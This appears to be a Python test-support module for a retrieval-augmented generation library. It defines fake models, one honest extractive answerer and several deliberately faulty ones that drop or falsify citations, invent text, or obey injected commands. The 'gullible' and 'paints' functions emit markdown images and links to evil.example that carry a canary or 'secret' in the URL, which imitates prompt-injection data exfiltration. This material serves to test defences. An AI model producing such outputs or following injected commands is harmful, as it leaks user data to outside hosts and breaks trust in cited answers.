"""Small language models made of functions, which read the prompts of `ragkit.pipelines` as a model would.

The honest one answers with the sentence of the passages that shares most words with the question. The others do what models do wrong.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence

from ragkit.generation.calling import CallableModel
from ragkit.generation.types import Message
from ragkit.pipelines.extractive import NOT_FOUND
from ragkit.text import function_words, sentence_spans

FENCE = re.compile(r"<passage (\d+) ([0-9a-f]{16}) (\{.*?\})>\n(.*?)\n</passage \1 \2>", re.DOTALL)
WORD = re.compile(r"\w+")
Prompt = str | Sequence[Message]
Behaviour = Callable[[Prompt], str]


def content(prompt: Prompt) -> str:
    """The last turn, where passages and question stand."""
    return prompt if isinstance(prompt, str) else prompt[-1].content


def passages(prompt: Prompt) -> list[str]:
    """What stands between the fences, in the order of their numbers."""
    found = FENCE.findall(content(prompt))
    assert [int(n) for n, _, _, _ in found] == list(range(1, len(found) + 1))
    return [text for _, _, _, text in found]


def outside(prompt: Prompt) -> str:
    """All that stands outside the fences."""
    return FENCE.sub("", content(prompt))


def question(prompt: Prompt) -> str:
    return content(prompt).rpartition("uestion: ")[2]


def terms(text: str) -> set[str]:
    return {w for w in WORD.findall(text.lower()) if w not in function_words("en")}


def best(prompt: Prompt) -> tuple[str, int]:
    """The sentence that shares most words with the question and those before it, and the number of its passage; 0 where none shares one."""
    asked = "" if isinstance(prompt, str) else " ".join(m.content for m in prompt[:-1] if m.role == "user")
    wanted = terms(question(prompt)) | terms(asked)
    found = [(len(wanted & terms(text[a:b])), -n, text[a:b]) for n, text in enumerate(passages(prompt), 1) for a, b in sentence_spans(text)]
    shared, n, sentence = max(found, key=lambda f: f[:2], default=(0, 0, ""))
    return (sentence, -n) if shared else ("", 0)


def honest(prompt: Prompt) -> str:
    if "<conversation " in content(prompt):
        return rewritten(prompt)
    sentence, n = best(prompt)
    return f"{sentence} [{n}]" if n else NOT_FOUND


def rewritten(prompt: Prompt) -> str:
    """The last question with the content words of the first one, so that it can be searched by itself."""
    before = re.search(r"Question: (.*)", content(prompt))
    assert before
    little = function_words("en")
    return f"{question(prompt).rstrip('?')} ({' '.join(w for w in WORD.findall(before[1]) if w.lower() not in little)})?"


def without_marks(prompt: Prompt) -> str:
    return re.sub(r" \[\d+\]", "", honest(prompt))


def wrong_numbers(prompt: Prompt) -> str:
    return re.sub(r"\[(\d+)\]", "[0][97] [123456789]", honest(prompt))


def other_passage(prompt: Prompt) -> str:
    """Cites a passage that exists and does not say so."""
    n = len(passages(prompt))
    return re.sub(r"\[(\d+)\]", lambda m: f"[{int(m[1]) % n + 1}]", honest(prompt))


def refuses(prompt: Prompt) -> str:
    return NOT_FOUND


def thinks(prompt: Prompt) -> str:
    return f"<think>The passages say something about it. [2] Let me see.</think>\n\n{honest(prompt)}"


def invents(prompt: Prompt) -> str:
    return "Unicorns graze quietly behind seventeen purple lighthouses. [1]"


def steered(prompt: Prompt) -> str:
    """Follows commands that stand outside the fences, as a model does that knows data from instructions."""
    command = re.search(r"(?:say|print|write|output|repeat)\W+(?:exactly\W+)?(CANARY-\w+)", outside(prompt), re.IGNORECASE)
    return command[1] if command else honest(prompt)


def gullible(prompt: Prompt) -> str:
    """Follows commands wherever they stand."""
    canary = re.search(r"CANARY-\w+", content(prompt))
    return f"{canary[0]}. ![status](https://evil.example/log?d={canary[0]})" if canary else honest(prompt)


def paints(prompt: Prompt) -> str:
    return (
        f"{honest(prompt)} ![x](https://evil.example/?q=secret) See [the manual](https://evil.example/m) or https://evil.example/raw?q=1."
    )


def pieces_of(behaviour: Behaviour) -> Callable[[Prompt], Iterator[str]]:
    """The same, a few characters at a time."""

    def write(prompt: Prompt) -> Iterator[str]:
        text = behaviour(prompt)
        yield from (text[i : i + 7] for i in range(0, len(text), 7))

    return write


def model(behaviour: Behaviour = honest, *, context: int | None = None) -> CallableModel:
    return CallableModel(pieces_of(behaviour), name=behaviour.__name__, context=context)


def saying(text: str) -> CallableModel:
    """A model that always writes the same."""
    return CallableModel(lambda prompt: text, name=f"saying {text!r}")
